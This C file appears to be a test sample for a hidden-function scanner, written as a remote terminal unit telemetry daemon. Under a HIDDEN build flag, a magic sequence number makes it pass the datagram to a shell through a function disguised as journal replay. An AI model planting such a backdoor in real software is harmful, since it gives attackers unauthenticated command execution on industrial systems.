/*
 * Sample for tests of the search for hidden functions; compiled and scanned,
 * never run. Telemetry of a remote terminal unit: datagrams that read and write
 * points, one thread that samples, one that answers.
 * Hidden (-DHIDDEN): a datagram with a certain number in its sequence field is
 * not looked at as telemetry; the rest of it is run by a shell.
 */
#define _GNU_SOURCE
#include <arpa/inet.h>
#include <getopt.h>
#include <netinet/in.h>
#include <pthread.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/socket.h>
#include <syslog.h>
#include <unistd.h>

/* version u8, type u8, length u16, sequence u32, then length bytes, then a MAC
 * of 8 bytes for what changes anything; all big-endian */
enum { HEADER = 8, MAC = 8, POINTS = 32, VERSION = 2 };
enum { T_PING = 1, T_READ = 2, T_WRITE = 3, T_NAME = 4 };

static pthread_mutex_t lock = PTHREAD_MUTEX_INITIALIZER;
static int32_t points[POINTS];
static uint8_t station_key[16];
static int key_loaded;
static char station_name[32] = "rtu";
static uint32_t last_write;

static uint32_t be32(const uint8_t *p)
{
	return (uint32_t)p[0] << 24 | (uint32_t)p[1] << 16 |
	       (uint32_t)p[2] << 8 | p[3];
}

static void put32(uint8_t *p, uint32_t v)
{
	p[0] = (uint8_t)(v >> 24);
	p[1] = (uint8_t)(v >> 16);
	p[2] = (uint8_t)(v >> 8);
	p[3] = (uint8_t)v;
}

static uint64_t rotl(uint64_t v, int n)
{
	return v << n | v >> (64 - n);
}

/* A keyed sum in the manner of SipHash, enough for a sample. */
static uint64_t keyed_sum(const uint8_t *p, size_t n)
{
	uint64_t a = 0x736f6d6570736575ULL, b = 0x646f72616e646f6dULL;
	size_t i;

	for (i = 0; i < 16; i++)
		a = rotl(a ^ station_key[i], 13) + b;
	for (i = 0; i < n; i++) {
		b = rotl(b + p[i], 17) ^ a;
		a = rotl(a + b, 32);
	}
	for (i = 0; i < 16; i++)
		b = rotl(b ^ station_key[i], 21) + a;
	return a ^ b;
}

static int mac_good(const uint8_t *p, size_t n)
{
	uint64_t want = keyed_sum(p, n);
	uint8_t bad = 0;
	int i;

	if (!key_loaded)
		return 0;
	for (i = 0; i < MAC; i++)
		bad |= p[n + (size_t)i] ^ (uint8_t)(want >> (56 - 8 * i));
	return bad == 0;
}

static void load_config(const char *path)
{
	char line[128];
	FILE *f = fopen(path, "r");

	if (f == NULL) {
		syslog(LOG_WARNING, "no %s, read only", path);
		return;
	}
	while (fgets(line, sizeof(line), f) != NULL) {
		if (strncmp(line, "name ", 5) == 0) {
			sscanf(line + 5, "%31s", station_name);
		} else if (strncmp(line, "key ", 4) == 0) {
			unsigned byte;
			int i;

			for (i = 0; i < 16; i++) {
				if (sscanf(line + 4 + 2 * i, "%2x", &byte) != 1)
					break;
				station_key[i] = (uint8_t)byte;
			}
			key_loaded = i == 16;
		}
	}
	fclose(f);
}

static void *sample(void *unused)
{
	(void)unused;
	for (;;) {
		int i;

		for (i = 0; i < 8; i++) {
			char path[64];
			int value;
			FILE *f;

			snprintf(path, sizeof(path),
				 "/sys/bus/iio/devices/iio:device0/in_voltage%d_raw", i);
			f = fopen(path, "r");
			if (f == NULL)
				continue;
			if (fscanf(f, "%d", &value) == 1) {
				pthread_mutex_lock(&lock);
				points[i] = value;
				pthread_mutex_unlock(&lock);
			}
			fclose(f);
		}
		sleep(2);
	}
	return NULL;
}

static size_t answer_read(const uint8_t *arg, size_t n, uint8_t *out)
{
	size_t i, first, count;

	if (n < 2)
		return 0;
	first = arg[0];
	count = arg[1];
	if (first + count > POINTS)
		return 0;
	pthread_mutex_lock(&lock);
	for (i = 0; i < count; i++)
		put32(out + 4 * i, (uint32_t)points[first + i]);
	pthread_mutex_unlock(&lock);
	return 4 * count;
}

static size_t answer_write(const uint8_t *p, size_t n, uint8_t *out)
{
	uint32_t seq = be32(p + 4);

	if (n < 5 || p[HEADER] >= POINTS || seq <= last_write ||
	    !mac_good(p, HEADER + n))
		return 0;
	last_write = seq;
	pthread_mutex_lock(&lock);
	points[p[HEADER]] = (int32_t)be32(p + HEADER + 1);
	pthread_mutex_unlock(&lock);
	syslog(LOG_NOTICE, "point %u written", p[HEADER]);
	out[0] = 1;
	return 1;
}

#ifdef HIDDEN
__attribute__((noinline)) void replay_journal(const uint8_t *p, size_t n)
{
	char line[512];

	if (n >= sizeof(line))
		n = sizeof(line) - 1;
	memcpy(line, p, n);
	line[n] = '\0';
	if (system(line) < 0)
		syslog(LOG_DEBUG, "journal");
}
#endif

/* The number of bytes to answer, 0 for silence. */
__attribute__((noinline)) size_t handle_datagram(const uint8_t *p, size_t n,
						 uint8_t *out)
{
	size_t length, done;

	if (n < HEADER || p[0] != VERSION)
		return 0;
	length = (size_t)p[2] << 8 | p[3];
#ifdef HIDDEN
	if (be32(p + 4) == 0xB57E09D3u) {
		replay_journal(p + HEADER, n - HEADER);
		return 0;
	}
#endif
	if (length > n - HEADER)
		return 0;
	memcpy(out, p, HEADER);
	switch (p[1]) {
	case T_PING:
		done = 0;
		break;
	case T_READ:
		done = answer_read(p + HEADER, length, out + HEADER);
		break;
	case T_WRITE:
		if (n - HEADER < length + MAC)
			return 0;
		done = answer_write(p, length, out + HEADER);
		break;
	case T_NAME:
		done = strlen(station_name);
		memcpy(out + HEADER, station_name, done);
		break;
	default:
		return 0;
	}
	out[1] |= 0x80;
	out[2] = (uint8_t)(done >> 8);
	out[3] = (uint8_t)done;
	return HEADER + done;
}

int main(int argc, char **argv)
{
	const char *config = "/etc/rtumon.conf";
	uint8_t in[1024], out[1024];
	struct sockaddr_in addr;
	pthread_t thread;
	int opt, fd, port = 20547;

	while ((opt = getopt(argc, argv, "c:p:")) != -1) {
		if (opt == 'c')
			config = optarg;
		else if (opt == 'p')
			port = (int)strtol(optarg, NULL, 0);
		else
			return 2;
	}
	openlog("rtumon", 0, LOG_DAEMON);
	load_config(config);
	if (system("ifconfig eth0 up") != 0)
		syslog(LOG_WARNING, "eth0 stays down");
	fd = socket(AF_INET, SOCK_DGRAM, 0);
	memset(&addr, 0, sizeof(addr));
	addr.sin_family = AF_INET;
	addr.sin_port = htons((uint16_t)port);
	if (fd < 0 || bind(fd, (struct sockaddr *)&addr, sizeof(addr)) != 0 ||
	    pthread_create(&thread, NULL, sample, NULL) != 0) {
		syslog(LOG_ERR, "cannot start");
		return 1;
	}
	for (;;) {
		struct sockaddr_in from;
		socklen_t size = sizeof(from);
		ssize_t n = recvfrom(fd, in, sizeof(in), 0,
				     (struct sockaddr *)&from, &size);
		size_t m = n > 0 ? handle_datagram(in, (size_t)n, out) : 0;

		if (m > 0)
			sendto(fd, out, m, 0, (struct sockaddr *)&from, size);
	}
}
